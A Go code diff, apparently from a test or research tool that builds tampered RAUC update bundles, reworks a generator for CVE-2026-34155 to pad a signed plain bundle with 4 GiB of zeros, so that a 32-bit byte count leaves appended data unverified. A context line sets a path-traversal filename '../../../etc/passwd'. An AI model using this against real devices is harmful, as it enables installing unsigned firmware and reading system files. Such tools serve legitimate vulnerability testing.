@@ -240,16 +240,18 @@ func (t *tampering) pathEscape() error {
 	return t.edited(func(s string) string { return setKey(s, "filename", "../../../etc/passwd") })
 }
 
-// Overlong is the bundle with zeros between payload and signature, for CVE-2026-34155: RAUC
-// before 1.15.2 checks no more of a plain payload of 2 GiB and more than its first bytes. The
-// source is made as it is read; written to a file, it can be a sparse one.
-func (b *Bundle) Overlong(payload int64) (format.Source, error) {
+// overlap is what a 32-bit count of the payload's bytes loses.
+const overlap = 1 << 32
+
+// Overlong is the bundle with 4 GiB of zeros between payload and signature, for
+// CVE-2026-34155: RAUC before 1.15.2 counts the bytes of a plain payload in 32 bits, and
+// verifies no more than those that were there before. The source is made as it is read;
+// written to a file, that can be a sparse one.
+func (b *Bundle) Overlong() (format.Source, error) {
 	if b.Kind() != Plain || b.message == nil {
 		return format.Source{}, fmt.Errorf("make overlong bundle: %w", notApplicable("it is not a signed plain bundle"))
 	}
-	if payload <= b.payload || payload%blockSize != 0 {
-		return format.Source{}, fmt.Errorf("make overlong bundle: payload of %d bytes, want more than %d and a multiple of %d", payload, b.payload, blockSize)
-	}
+	payload := overlap + b.payload
 	tail := appendSignature(nil, b.signature)
 	return format.NewSource(&overlong{b: b, payload: payload, tail: tail}, payload+int64(len(tail))), nil
 }
